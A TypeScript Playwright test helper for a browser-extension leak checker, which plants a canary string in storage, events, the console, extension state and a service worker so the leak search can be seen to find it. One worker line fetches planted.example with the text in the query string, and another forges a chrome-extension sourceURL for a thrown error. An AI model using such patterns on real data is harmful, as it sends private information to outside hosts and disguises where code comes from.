import type { Page } from '@playwright/test';
import { expect } from '@playwright/test';
import type { GuardWorlds } from './carried.ts';
import type { LeakBrowser } from './leak-browser.ts';
import { readExtensionErrors } from './leak-places.ts';
import { fillOriginStorage, showAndCopy } from './leak-storage.ts';

interface ExtensionGlobal {
  chrome: {
    storage: Record<'local' | 'session' | 'sync', { set(items: object): Promise<void> }>;
    action: { setTitle(details: object): Promise<void> };
    alarms: { create(name: string, info: object): Promise<void> };
  };
}

/** How the proxy's list of requests that nobody but the extension makes names those made here. */
export const plantedRequests = ['connection to planted.example:443', 'https://planted.example/', 'GET https://www.facebook.com/planted'];

/** Leaks on purpose, by every way there is, so that the search can be seen to find them. */
export async function plantEverywhere(browser: LeakBrowser, page: Page, worlds: GuardWorlds, text: string): Promise<void> {
  await page.evaluate(fillOriginStorage, text);
  await page.evaluate(showAndCopy, text);
  await worlds.evaluate(`window.dispatchEvent(new CustomEvent('planted', { detail: ${JSON.stringify(text)} }))`);
  await worlds.evaluate(`window.postMessage(${JSON.stringify(text)}, '*')`);
  await worlds.evaluate(`console.log(${JSON.stringify(text)})`);
  await worlds.evaluate("void fetch('/planted')");
  await browser.proxy.waitForPath('/planted');
  await plantInExtension(browser, text);
  await plantInWorker(browser, text);
}

async function plantInExtension({ openExtensionPage }: LeakBrowser, text: string): Promise<void> {
  const page = await openExtensionPage('popup.html');
  await page.evaluate(fillOriginStorage, text);
  await page.evaluate(async (words) => {
    const { storage, action, alarms } = (globalThis as unknown as ExtensionGlobal).chrome;
    const facts = { site: 'facebook', surface: 'reply', level: 'stop', action: 'shown', rules: [words.toLowerCase()], at: Date.now() };
    await storage.local.set({
      eventLog: [facts],
      lastPolicy: { state: 'managed', raw: { organizationName: words } },
      eventQueue: { waiting: [{ kind: 'verdict', id: crypto.randomUUID(), ...facts }] },
    });
    await Promise.all([storage.session.set({ words }), storage.sync.set({ words }), action.setTitle({ title: words })]);
    await alarms.create(words, { when: Date.now() + 3_600_000 });
  }, text);
  await page.close();
}

async function plantInWorker(browser: LeakBrowser, text: string): Promise<void> {
  const worker = await browser.getWorker();
  await worker.evaluate((words) => {
    console.log(words);
    void fetch(`https://planted.example/?${words}`).catch(() => undefined);
  }, text);
  // Chromium collects errors of the extension's own files only, so this one says that it is from one.
  const error = `setTimeout(() => { throw new Error(${JSON.stringify(text)}) })`;
  await worker.evaluate(`${error}\n//# sourceURL=chrome-extension://${browser.extensionId}/background.js`);
  await expect.poll(async () => (await readExtensionErrors(browser)).content).toContain(text);
  await browser.proxy.waitForHost('planted.example');
  await expect.poll(() => browser.said.join()).toContain(text);
}
